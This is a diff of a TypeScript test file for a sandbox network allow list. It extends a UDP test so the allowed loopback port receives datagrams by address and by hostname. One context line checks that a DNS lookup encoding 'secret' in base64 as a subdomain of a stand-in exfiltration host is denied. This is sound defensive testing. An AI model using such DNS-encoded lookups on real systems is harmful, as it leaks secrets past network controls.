@@ -86,7 +86,7 @@ describe.each(['sandbox', 'worker'] as const)('%s runner: the network allow list
     denied(await call('lookup', { name: 'c2VjcmV0.exfil.example' }), '(dns.lookup)');
   });
 
-  it('UDP to a loopback port not allowed, with or without an address, is POLICY_DENIED and zero packets arrive; the allowed port gets its datagram', async () => {
+  it('UDP to a loopback port not allowed, with or without an address, is POLICY_DENIED and zero packets arrive; the allowed port gets its datagrams, by address and by name', async () => {
     const before = { ...world.hits };
     const port = world.trapPort;
     denied(await call('udp_send', { host: '127.0.0.1', port }), '127.0.0.1');
@@ -94,7 +94,9 @@ describe.each(['sandbox', 'worker'] as const)('%s runner: the network allow list
     expect(ok(await call('udp_send', { host: '127.0.0.1', port: world.ports.allowedUdp }))).toBe(
       'sent',
     );
-    await expect.poll(() => world.hits.allowedUdp).toBe(before.allowedUdp + 1);
+    const byName = { host: 'localhost', port: world.ports.allowedUdp };
+    expect(ok(await call('udp_send', byName))).toBe('sent');
+    await expect.poll(() => world.hits.allowedUdp).toBe(before.allowedUdp + 2);
     expect(world.hits.trapUdp).toBe(before.trapUdp);
   });
 
